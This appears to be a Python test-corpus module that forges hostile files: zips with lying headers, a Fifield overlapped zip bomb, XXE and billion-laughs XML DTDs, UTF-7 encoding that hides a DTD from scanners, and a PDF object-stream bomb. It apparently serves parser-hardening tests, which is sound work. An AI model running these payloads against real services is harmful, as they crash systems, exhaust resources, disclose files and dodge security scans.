"""Low-level forging of hostile files: zips with lying headers, XML with DTDs, raw PDFs.

Why by hand: `zipfile` and lxml refuse to write most of what an attacker writes (overlapping
entries, sizes that lie, encryption flags without encryption), so the corpus builds those
bytes itself. Everything here is deterministic.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

# --------------------------------------------------------------------------- zips


def parts(path: Path) -> dict[str, bytes]:
    """Every part of a zip, in order."""
    with zipfile.ZipFile(path) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def write_zip(path: Path, members: dict[str, bytes], level: int = 6,
              stored: frozenset[str] = frozenset()) -> Path:
    """A zip of the members, deflated except those named in `stored` (kept uncompressed, so
    no compression-ratio check stops them before the parser sees them)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in members.items():
            method = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            z.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, compress_type=method)
    return path


def deflate(data: bytes, level: int = 9) -> bytes:
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


@dataclass
class Entry:
    """One entry of a forged zip: what its headers say, and the bytes that follow them."""

    name: str
    payload: bytes  # the (compressed) bytes stored after the local header
    crc: int
    size: int  # declared uncompressed size
    method: int = 8
    flags: int = 0
    csize: int | None = None  # declared compressed size (default: len(payload))
    offset: int | None = None  # central directory offset override (overlap)
    local: bool = True  # write a local header + payload (False: central entry only)


def entry(name: str, data: bytes, *, method: int = 8, **kw: object) -> Entry:
    payload = deflate(data) if method == 8 else data
    return Entry(name, payload, zlib.crc32(data), len(data), method, **kw)  # type: ignore[arg-type]


def forge_zip(path: Path, entries: list[Entry], *, comment: bytes = b"") -> Path:
    """A zip written entry by entry, trusting every lie the entries tell."""
    out = bytearray()
    offsets: list[int] = []
    for e in entries:
        offsets.append(len(out))
        if not e.local:
            continue
        name = e.name.encode()
        csize = len(e.payload) if e.csize is None else e.csize
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, e.flags, e.method, 0, 0x5C21,
                           e.crc, csize, e.size, len(name), 0)
        out += name + e.payload
    central = bytearray()
    for e, off in zip(entries, offsets, strict=True):
        name = e.name.encode()
        csize = len(e.payload) if e.csize is None else e.csize
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, e.flags, e.method, 0,
                               0x5C21, e.crc, csize, e.size, len(name), 0, 0, 0, 0, 0,
                               e.offset if e.offset is not None else off)
        central += name
    start = len(out)
    out += central
    n = len(entries)
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, min(n, 0xFFFF), min(n, 0xFFFF),
                       len(central), start, len(comment)) + comment
    path.write_bytes(bytes(out))
    return path


def _local(name: bytes, crc: int, csize: int, size: int) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x5C21, crc, csize, size,
                       len(name), 0) + name


def fifield_overlap(path: Path, names: list[str], kernel_size: int) -> Path:
    """David Fifield's overlapped zip bomb, "quoted" form: each entry's compressed data runs on
    through the local headers of every later entry (quoted as stored deflate blocks) into one
    shared kernel, so every entry inflates to the whole kernel while the file stays small."""
    data = b"\x00" * kernel_size
    comp = deflate(data)
    headers: list[bytes] = [b""] * len(names)
    meta: list[tuple[int, int, int]] = [(0, 0, 0)] * len(names)
    for i in reversed(range(len(names))):
        crc = zlib.crc32(data)
        headers[i] = _local(names[i].encode(), crc, len(comp), len(data))
        meta[i] = (crc, len(comp), len(data))
        if i:
            h = headers[i]
            comp = struct.pack("<BHH", 0, len(h), len(h) ^ 0xFFFF) + h + comp
            data = h + data
    out = bytearray(headers[0])
    offsets = [0]
    # the data of entry 0 holds every later header; recover their offsets as we lay it out
    for i in range(1, len(names)):
        out += struct.pack("<BHH", 0, len(headers[i]), len(headers[i]) ^ 0xFFFF)
        offsets.append(len(out))
        out += headers[i]
    out += deflate(b"\x00" * kernel_size)
    central = bytearray()
    for name, off, (crc, csize, size) in zip(names, offsets, meta, strict=True):
        raw = name.encode()
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x5C21, crc,
                               csize, size, len(raw), 0, 0, 0, 0, 0, off) + raw
    start = len(out)
    out += central
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(names), len(names), len(central),
                       start, 0)
    path.write_bytes(bytes(out))
    return path


# --------------------------------------------------------------------------- XML


def with_dtd(xml: bytes, dtd: bytes, needle: bytes | None = None,
             ref: bytes = b"&xxe;") -> bytes:
    """The part with a DOCTYPE after its declaration, and `needle` (a text node) replaced by
    an entity reference: were the entity ever resolved, its text would be read as an answer."""
    if needle is not None:
        at = xml.find(b">" + needle + b"<")
        if at >= 0:
            xml = xml[:at + 1] + ref + xml[at + 1 + len(needle):]
    if xml.startswith(b"<?xml"):
        end = xml.index(b"?>") + 2
        return xml[:end] + dtd + xml[end:]
    return dtd + xml


def declared(xml: bytes, encoding: str) -> bytes:
    """The part with its XML declaration replaced by one naming `encoding`."""
    if xml.startswith(b"<?xml"):
        xml = xml[xml.index(b"?>") + 2:].lstrip()
    return b'<?xml version="1.0" encoding="' + encoding.encode() + b'"?>' + xml


def xxe(uri: str) -> bytes:
    return b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "' + uri.encode() + b'">]>'


def laughs(levels: int = 10) -> bytes:
    ents = [b'<!ENTITY xxe0 "lollollollollol">']
    for i in range(1, levels):
        ents.append(b"<!ENTITY xxe%d \"" % i + (b"&xxe%d;" % (i - 1)) * 10 + b'">')
    ents.append(b'<!ENTITY xxe "' + (b"&xxe%d;" % (levels - 1)) * 10 + b'">')
    return b"<!DOCTYPE x [" + b"".join(ents) + b"]>"


def quadratic(size: int = 50_000) -> bytes:
    return b'<!DOCTYPE x [<!ENTITY q "' + b"Q" * size + b'"><!ENTITY xxe "' \
        + b"&q;" * 20_000 + b'">]>'


def nested(xml: bytes, marker: bytes, depth: int, tag: bytes = b"x") -> bytes:
    """`depth` nested elements inserted just before `marker`."""
    at = xml.index(marker)
    return xml[:at] + (b"<" + tag + b">") * depth + (b"</" + tag + b">") * depth + xml[at:]


def utf7_hidden(text: str) -> bytes:
    """UTF-7 with every markup character base64-encoded ("<" as "+ADw-"), the way an attacker
    hides a DTD from a scan for "<!DOCTYPE" (PhpSpreadsheet CVE-2018-19277)."""
    import base64

    out = bytearray()
    for ch in text:
        if ch in '<>!"[]&;%=+':
            b64 = base64.b64encode(ch.encode("utf-16-be")).rstrip(b"=")
            out += b"+" + b64 + b"-"
        else:
            out += ch.encode("utf-7")
    return bytes(out)


# --------------------------------------------------------------------------- PDF


def objstm_bomb(path: Path, size: int, type_name: bytes = b"/ObjStm") -> None:
    """A tiny PDF whose document info lives in an object stream padded to `size` bytes.

    `type_name` spells the stream's /Type (e.g. with #xx escapes, which readers undo)."""
    info = (b"<< /bluestone:form-id (rp1) /bluestone:version (1.0) "
            b"/bluestone:instance-id (objstm-bomb) >>")
    head = b"4 0 "
    comp = zlib.compressobj(1)
    parts = [comp.compress(head + info)]
    zeros = b" " * (16 * 1024 * 1024)
    parts += [comp.compress(zeros) for _ in range(size // len(zeros))]
    stream = b"".join(parts) + comp.flush()
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num, body in ((1, b"<< /Type /Catalog /Pages 2 0 R >>"),
                      (2, b"<< /Type /Pages /Kids [] /Count 0 >>")):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    offsets[3] = len(out)
    out += (b"3 0 obj\n<< /Type %s /N 1 /First %d /Filter /FlateDecode /Length %d >>\n"
            b"stream\n" % (type_name, len(head), len(stream))) + stream + b"\nendstream\nendobj\n"
    offsets[5] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3)]
    rows += [struct.pack(">BIH", 2, 3, 0), struct.pack(">BIH", 1, offsets[5], 0)]
    xref = b"".join(rows)
    out += (b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Info 4 0 R /Length %d >>"
            b"\nstream\n" % len(xref)) + xref + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[5]
    path.write_bytes(bytes(out))
